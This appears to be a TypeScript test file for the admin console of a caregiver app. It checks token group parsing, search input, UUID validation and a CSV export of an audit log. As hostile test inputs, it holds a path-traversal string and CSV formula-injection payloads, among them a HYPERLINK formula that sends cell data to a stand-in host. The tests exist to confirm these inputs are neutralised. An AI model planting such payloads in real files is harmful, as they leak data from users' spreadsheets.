import { groupsOf, isOperatorClaim } from '../../contract/team';
import { auditCsv, csvField, type ReadAuditPage } from './audit';
import { checkUid, parseSearch } from './caregivers';

describe('groups of a verified token', () => {
  it.each([
    [['equipe'], ['equipe']],
    ['[equipe]', ['equipe']],
    ['[outra equipe]', ['outra', 'equipe']],
    ['equipe,outra', ['equipe', 'outra']],
    [undefined, []],
    [42, []],
  ])('%p → %p', (claim, groups) => {
    expect(groupsOf(claim)).toEqual(groups);
  });

  it('is an operator only with the group itself, not a look-alike', () => {
    expect(isOperatorClaim('[equipe]')).toBe(true);
    expect(isOperatorClaim('[equipes]')).toBe(false);
    expect(isOperatorClaim('[]')).toBe(false);
  });
});

describe('the Cuidadoras search box', () => {
  it.each([
    ['Maria@Exemplo.com.br ', { kind: 'email', email: 'maria@exemplo.com.br' }],
    ['(11) 98765-4321', { kind: 'phone', digits: '11987654321' }],
    ['+55 11 98765-4321', { kind: 'phone', digits: '11987654321' }],
  ])('%p', (text, search) => {
    expect(parseSearch(text)).toEqual(search);
  });

  it.each([[''], ['   '], ['maria'], ['1198765432'], ['a@b']])('refuses %p in Portuguese', (text) => {
    expect(() => parseSearch(text)).toThrow(/cuidadora|e-mail/);
  });

  it('accepts only a UUID as her id', () => {
    expect(checkUid('36ED56C4-3F4C-4B27-8C8E-1F899FAA8419')).toBe('36ed56c4-3f4c-4b27-8c8e-1f899faa8419');
    expect(() => checkUid('../../x')).toThrow('Identificador de cuidadora inválido.');
  });
});

describe('the Registro as CSV', () => {
  it('reads every page, newest first, with the console column names and the anonymised target', async () => {
    const pages: Record<string, Awaited<ReturnType<ReadAuditPage>>> = {
      first: { entries: [{ id: 'b', at: '2026-11-23T10:00:00.000Z', actorId: 'op', action: 'acesso-bloqueado', targetId: 'uid-1' }], cursor: 'next' },
      next: { entries: [{ id: 'a', at: '2026-11-22T10:00:00.000Z', actorId: 'op', action: 'exclusao-iniciada', targetDeleted: true }], cursor: null },
    };
    const csv = await auditCsv(async (_limit, cursor) => pages[cursor ?? 'first']);
    expect(csv).toBe(
      '\uFEFFquando;quem;ação;alvo\r\n2026-11-23T10:00:00.000Z;op;Acesso bloqueado;uid-1\r\n2026-11-22T10:00:00.000Z;op;Exclusão da conta iniciada (LGPD);conta excluída\r\n',
    );
  });

  it('neutralises cells a spreadsheet would run as a formula, and quotes separators', async () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Clique")', '+1+1', '-2+3', '@SUM(1)', '\tcmd', '\rcmd', 'Ana; Souza'];
    const csv = await auditCsv(async () => ({ entries: hostile.map((targetId, i) => ({ id: String(i), at: '2026-11-23T10:00:00.000Z', actorId: 'op', action: 'acesso-bloqueado' as const, targetId })), cursor: null }));
    const targets = csv.trim().split('\r\n').slice(1).map((line) => line.slice(line.lastIndexOf(';Acesso bloqueado;') + ';Acesso bloqueado;'.length));
    expect(targets).toEqual(['"\'=HYPERLINK(""http://x.example/?""&A1,""Clique"")"', "'+1+1", "'-2+3", "'@SUM(1)", "'\tcmd", '"\'\rcmd"', '"Ana; Souza"']);
    expect(csvField('Maria')).toBe('Maria');
  });
});
